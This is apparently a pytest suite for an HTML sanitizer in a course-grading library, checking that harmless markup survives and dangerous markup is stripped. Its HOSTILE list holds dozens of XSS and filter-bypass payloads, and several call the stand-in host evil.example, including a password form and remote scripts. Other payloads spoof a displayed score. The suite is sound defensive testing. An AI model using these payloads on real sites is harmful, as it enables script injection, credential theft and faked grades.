"""HTML of strangers: what is harmless stays, nothing else does."""

from __future__ import annotations

import base64
import re
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

import pytest

from lessonlib.grading.book.clean_html import clean_html, picture_of_svg
from lessonlib.viz import learning_curves

PNG = "data:image/png;base64,iVBORw0KGgo="
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="5" height="5" aria-label="A dot"><circle r="2"/></svg>'
_VOID = ("br", "hr", "img")


class Page(HTMLParser):
    """The tags of a page with their attributes, and what it says."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.text = [], ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))

    def handle_data(self, data):
        self.text += data


@pytest.mark.parametrize(
    "html",
    [
        "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>",
        '<table><tbody><tr><td colspan="2" align="right">1</td></tr></tbody></table>',
        "<p>a <em>b</em> <code>c</code><br><sub>1</sub></p>",
        '<a href="https://example.org" rel="noopener noreferrer nofollow">a</a>',
        '<a href="mailto:a@example.org" title="a" rel="noopener noreferrer nofollow">a</a>',
        f'<img src="{PNG}" alt="a" width="300" height="20">',
        '<ol start="3"><li>a</li></ol>',
        "1 &lt; 2 &amp; 3",
    ],
)
def test_what_is_harmless_stays(html):
    assert clean_html(html) == html


def test_a_table_of_pandas_keeps_its_cells_and_loses_its_style():
    html = """<div><style scoped>.dataframe tbody tr th {vertical-align: top;}</style>
    <table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>a</th></tr></thead>
    <tbody><tr><th>0</th><td>1</td></tr></tbody></table><p>1 rows by 1 columns</p></div>"""
    page = Page(clean_html(html))
    assert [tag for tag, _ in page.tags].count("td") == 1
    assert "1 rows by 1 columns" in page.text
    assert "vertical-align" not in page.text
    assert not any(attributes for _, attributes in page.tags)


HOSTILE = [
    "<script>GOTCHA()</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script>GOTCHA()//<!--",
    "<img src=x onerror=GOTCHA()>",
    "<img src='https://evil.example/seen.png'>",
    "<img src=//evil.example/seen.png srcset='//evil.example/seen.png 2x'>",
    "<img src='data:text/html,<script>GOTCHA()</script>'>",
    "<img src='data:image/svg+xml,<svg onload=GOTCHA()>'>",
    "<img/src='x'/onerror='GOTCHA()'>",
    "<img src=x width='1 onerror=GOTCHA()' height=1px>",
    '<img alt="` onerror=GOTCHA() x=`" src=x>',
    "<a href='javascript:GOTCHA()'>a</a>",
    "<a href='java&#x0A;script:GOTCHA()'>a</a>",
    "<a href=' &#14; javascript:GOTCHA()'>a</a>",
    "<a href='data:text/html,<script>GOTCHA()</script>'>a</a>",
    "<a href='vbscript:GOTCHA()'>a</a>",
    "<a href='/lab/tree/secret'>a</a>",
    "<a href='../../../formgrader'>a</a>",
    "<a href='//evil.example'>a</a>",
    "<a href='#cell-1'>a</a>",
    "<a href=https://a.example target=_self ping=//evil.example>a</a>",
    "<p style='position: fixed; inset: 0; background: white'>Score: 10 / 10</p>",
    "<p class='score graded'>Score: 10 / 10</p>",
    "<h1 id=cell-1 name=cell-1>Score</h1>",
    "<style>* {display: none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0; url=//evil.example'>",
    "<base href=//evil.example/>",
    "<iframe src=javascript:GOTCHA()></iframe>",
    "<iframe srcdoc='<script>GOTCHA()</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<button formaction=javascript:GOTCHA()>a</button>",
    "<video src=//evil.example onerror=GOTCHA()><source src=//evil.example></video><audio autoplay src=x></audio>",
    "<details open ontoggle=GOTCHA()>a</details>",
    "<body onload=GOTCHA() background=//evil.example>",
    "<table background=//evil.example><td background=//evil.example>a</table>",
    "<marquee onstart=GOTCHA()>a</marquee>",
    "<dialog open>a</dialog><div popover id=a>a</div>",
    "<math><maction actiontype=statusline xlink:href=javascript:GOTCHA()>a</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=GOTCHA()></style></mglyph></table></mtext></math>",
    "<svg onload=GOTCHA()>",
    "<svg><script>GOTCHA()</script></svg>",
    "<svg><a href=javascript:GOTCHA()><text>a</text></a></svg>",
    "<svg><style><img src=x onerror=GOTCHA()></style></svg>",
    "<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload=GOTCHA()/></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml;base64,AAAA#x'/><image href=//evil.example /></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=GOTCHA()>'>",
    "<noscript><p title='</noscript><img src=x onerror=GOTCHA()>'>",
    "<textarea><img src=x onerror=GOTCHA()></textarea><title><img src=x onerror=GOTCHA()></title>",
    "<xmp><img src=x onerror=GOTCHA()></xmp><plaintext><img src=x onerror=GOTCHA()>",
    "<template><img src=x onerror=GOTCHA()></template>",
    "<!--><img src=x onerror=GOTCHA()>-->",
    "<!--[if IE]><script>GOTCHA()</script><![endif]--><![CDATA[<script>GOTCHA()</script>]]>",
    "<?xml-stylesheet href='javascript:GOTCHA()'?>",
    "</main></section><header><h1>Score: 10 / 10</h1></header>",
    "<x-element onclick=GOTCHA()>a</x-element>",
    "\x00<scr\x00ipt>GOTCHA()</scr\x00ipt>",
    "<img src=x:x oneonerrorrror=GOTCHA()><scr<script>ipt>GOTCHA()</script>",
    "&lt;script&gt;GOTCHA()&lt;/script&gt;",
]
_ALLOWED = {"href", "title", "rel", "src", "alt", "width", "height", "colspan", "rowspan", "align", "start"}
_RUNS_OR_LOADS = {
    *(
        "script",
        "style",
        "link",
        "meta",
        "base",
        "iframe",
        "frame",
        "object",
        "embed",
        "form",
        "input",
        "button",
    ),
    *(
        "svg",
        "math",
        "video",
        "audio",
        "source",
        "body",
        "html",
        "head",
        "main",
        "header",
        "section",
        "dialog",
    ),
}


@pytest.mark.parametrize("html", HOSTILE)
@pytest.mark.parametrize(
    "around", ["{}", "<table><tr><td>{}", '<a title="{}">', "<p title='{}'>", "<b>{}</b>"]
)
def test_what_is_not_harmless_goes(html, around):
    cleaned = clean_html(around.format(html))
    for tag, attributes in Page(cleaned).tags:
        assert tag not in _RUNS_OR_LOADS
        assert attributes.keys() <= _ALLOWED
        assert re.fullmatch(r"(https?://|mailto:).*", attributes.get("href", "https://"))
        assert re.fullmatch(r"data:image/(png|jpeg|gif|svg\+xml);base64,[\w+/=]*", attributes.get("src", PNG))
    assert clean_html(cleaned) == cleaned


def test_a_drawing_becomes_a_picture():
    (_, attributes), *_ = [tag for tag in Page(clean_html(f"<p>a</p>{SVG}b")).tags if tag[0] == "img"]
    kind, _, data = attributes["src"].partition(",")
    assert kind == "data:image/svg+xml;base64"
    assert ET.fromstring(base64.b64decode(data)).find("{http://www.w3.org/2000/svg}circle") is not None
    assert attributes["alt"] == "A dot"


def test_the_courses_own_pictures_are_shown_with_their_words():
    picture = learning_curves({"training": [1.0, 0.5]})
    page = Page(clean_html(picture.html))
    assert [tag for tag, _ in page.tags] == ["img"]
    assert page.tags[0][1]["alt"] == picture.alt
    assert page.text.strip() == ""


def test_a_file_of_svg_may_begin_with_declarations_and_needs_no_namespace_within_html():
    declared = f'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd">\n{SVG}'
    assert picture_of_svg(declared) == picture_of_svg(SVG)
    assert "alt=" in picture_of_svg("<svg><path d='M0 0'/></svg>")


@pytest.mark.parametrize(
    "svg",
    [
        "",
        "no svg",
        "<svg>",
        "<svg><g></svg>",
        "<p/>",
        "<svg><script/></svg>",
        "<svg onload='x()'/>",
        "<svg><g ONCLICK='x()'/></svg>",
        "<svg><foreignObject/></svg>",
        "<svg><image href='https://evil.example/x.png'/></svg>",
        "<svg xmlns:xlink='http://www.w3.org/1999/xlink'><use xlink:href='//evil.example#a'/></svg>",
        "<svg>&undefined;</svg>",
        "<svg>" + "<g>" * 5_000 + "</g>" * 5_000 + "</svg>",
    ],
)
def test_what_is_more_than_a_drawing_is_none(svg):
    with pytest.raises(ValueError, match=r"."):
        picture_of_svg(svg)
    assert "<svg" not in clean_html(svg)


@pytest.mark.parametrize("html", ["<div>" * 1_000, "<ul><li>" * 300, "<b><i>" * 100, "<blockquote>" * 150])
def test_what_is_nested_too_deep_is_refused(html):
    with pytest.raises(ValueError, match=r"nested [\d,]+ deep"):
        clean_html(html)


def test_what_grows_too_much_is_refused():
    html = "<p>" + "".join(f"<b title={n}>" for n in range(90)) + "<p>a" * 400
    with pytest.raises(ValueError, match=r"grows from [\d,]+ to [\d,]+ characters"):
        clean_html(html)


def test_a_long_table_without_ends_is_fine():
    assert clean_html("<table>" + "<tr><td>1<td>2" * 2_000).count("</td>") == 4_000
